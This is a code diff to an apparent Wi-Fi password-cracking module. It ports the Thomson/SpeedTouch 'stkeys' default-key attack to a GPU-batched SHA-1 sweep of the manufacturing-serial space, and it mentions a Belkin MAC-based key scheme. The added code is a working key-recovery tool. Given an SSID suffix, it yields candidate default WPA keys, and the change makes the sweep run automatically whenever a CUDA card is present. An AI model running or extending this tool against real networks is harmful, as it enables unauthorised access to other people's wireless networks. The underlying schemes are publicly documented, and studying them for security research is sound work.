@@ -9,8 +9,9 @@ generators, each implementing a publicly documented default-key scheme:
 - ``thomson``   — Thomson/SpeedTouch serial-space SHA-1 search (Kevin
   Devine's "stkeys" attack, 2008): the default key and the SSID suffix
   are both digests of the manufacturing serial, so the ~22M serial space
-  is searched for serials whose digest tail matches the SSID (in
-  hashlib; the JAX package's accelerator sweep is not ported yet).
+  is searched for serials whose digest tail matches the SSID.  The
+  search runs as a batched single-block SHA-1 sweep on the CUDA card
+  (reusing ops/sha1), with a hashlib search on hosts without one.
 - ``belkin``    — Belkin's per-nibble substitution of the WAN MAC
   (Jakob Lell's 2012 writeup): 8 key chars drawn from a 16-char charset
   indexed by a fixed permutation of the MAC's last 8 nibbles.
@@ -80,19 +81,24 @@ def thomson_key(serial: bytes):
 
 
 def thomson_candidates(ssid_suffix: str, years=range(4, 13), weeks=range(1, 54),
-                       device: bool = False):
+                       device=None):
     """Search the serial space for keys matching an SSID suffix.
 
     ``ssid_suffix``: the 6 hex chars after the vendor prefix.  Yields the
-    default-key candidates (10 uppercase hex chars each).  The search runs
-    in hashlib on the host (the full 9-year space is ~22M SHA-1s, ~30 s);
-    the accelerator sweep is not ported yet, so ``device=True`` raises.
+    default-key candidates (10 uppercase hex chars each).  ``device``:
+    ``None`` sweeps on ``cuda:0`` iff a CUDA card is present, else in
+    hashlib (the full 9-year space is ~22M SHA-1s, ~30 s on the host);
+    ``True`` sweeps on ``cuda:0`` and raises without a card; ``False``
+    searches in hashlib; a torch device or its name sweeps there.
     """
     target = ssid_suffix.upper()
-    if device:
-        raise NotImplementedError(
-            "the device Thomson serial sweep is not ported yet "
-            "(ROADMAP later slice 9)")
+    if device is None:
+        device = _cuda_present()
+    if device is not False:
+        # True -> None, which resolve_device reads as cuda:0 (or raises)
+        yield from _thomson_search_device(target, list(years), list(weeks),
+                                          device=None if device is True else device)
+        return
     for yy in years:
         for ww in weeks:
             for a in _CODE_CHARS:
@@ -101,6 +107,71 @@ def thomson_candidates(ssid_suffix: str, years=range(4, 13), weeks=range(1, 54),
                         sfx, key = thomson_key(_thomson_serial(yy, ww, a + b + c))
                         if sfx == target:
                             yield key
+
+
+def _cuda_present() -> bool:
+    import torch
+
+    return torch.cuda.is_available()
+
+
+def _thomson_search_device(target: str, years, weeks, chunk: int = 1 << 20,
+                           compress=None, device=None):
+    """Device sweep: build serial blocks from an arange, one SHA-1 each.
+
+    The 12-byte serial fits one padded block, so each candidate costs a
+    single compression: the plain ``ops/sha1`` form as eager int32 torch
+    ops (the sweep is a one-shot cron job; no kernel of its own).  The
+    space is at most 9 x 53 x 36**3 serials (< 2**31), so int32 indices
+    are exact.  One host sync per chunk (its hit indices).
+    """
+    import numpy as np
+    import torch
+
+    from ..ops.common import iv_state, shr32
+    from ..ops.sha1 import IV, sha1_compress
+    from ..parallel.device import resolve_device
+
+    compress = compress or sha1_compress
+    dev = resolve_device(device)
+    yw = [(yy, ww) for yy in years for ww in weeks]
+    ncodes = 36 ** 3
+    tgt = int(target, 16)
+    yw_arr = torch.tensor(yw, dtype=torch.int32, device=dev).reshape(-1, 2)
+
+    def sweep(base, n):
+        i = base + torch.arange(n, dtype=torch.int32, device=dev)
+        code = i % ncodes
+        ywi = (i // ncodes).long()
+        yy = yw_arr[ywi, 0]
+        ww = yw_arr[ywi, 1]
+
+        def ascii36(v):  # 0..35 -> ASCII of the code char; 0..15 -> a hex digit
+            return torch.where(v < 10, v + 48, v + 55)
+
+        c = [ascii36(code // 36 ** (2 - k) % 36) for k in range(3)]
+        # serial chars: 'C' 'P' y1 y2 w1 w2 then hex-expansion of c0 c1 c2
+        # (every char is ASCII, so ch << 24 stays below 2**31)
+        ch = [67, 80, yy // 10 + 48, yy % 10 + 48, ww // 10 + 48, ww % 10 + 48]
+        for v in c:
+            ch += [ascii36(v >> 4), ascii36(v & 15)]
+        w0 = (ch[0] << 24) | (ch[1] << 16) | (ch[2] << 8) | ch[3]
+        w1 = (ch[4] << 24) | (ch[5] << 16) | (ch[6] << 8) | ch[7]
+        w2 = (ch[8] << 24) | (ch[9] << 16) | (ch[10] << 8) | ch[11]
+        block = [w0, w1, w2, 0x80000000] + [0] * 11 + [12 * 8]
+        st = compress(iv_state(IV, block), block)
+        hit = (st[4] & 0xFFFFFF) == tgt
+        return hit, st[0], shr32(st[1], 24)
+
+    total = len(yw) * ncodes
+    for base in range(0, total, chunk):
+        n = min(chunk, total - base)
+        hit, s0, s1 = sweep(base, n)
+        idx = torch.nonzero(hit).flatten()   # the chunk's one sync
+        if idx.numel():
+            found = torch.stack([s0[idx], s1[idx]]).cpu().numpy().view(np.uint32)
+            for a, b in found.T:
+                yield ("%08X%02X" % (int(a), int(b))).encode()
 
 
 # ---------------------------------------------------------------------------
@@ -395,10 +466,13 @@ def vendor_candidates(bssid: bytes, ssid: bytes, thomson_kw=None,
     """
     m = THOMSON_SSID_RE.match(ssid)
     if m:
-        # The serial sweep is ~22M SHA-1s, ~30 s/net in hashlib — so it
-        # only runs with an explicit thomson_kw budget (the accelerator
-        # sweep that makes it the default is not ported yet).
+        # The serial sweep is ~22M SHA-1s, ~30 s/net in hashlib — so
+        # without an explicit thomson_kw budget it only runs when a CUDA
+        # card is present, keeping the cron job bounded on CPU-only
+        # server hosts.
         kw = thomson_kw
+        if kw is None:
+            kw = {} if _cuda_present() else None
         if kw is not None:
             for key in thomson_candidates(m.group(2).decode(), **kw):
                 yield ("Thomson", key)
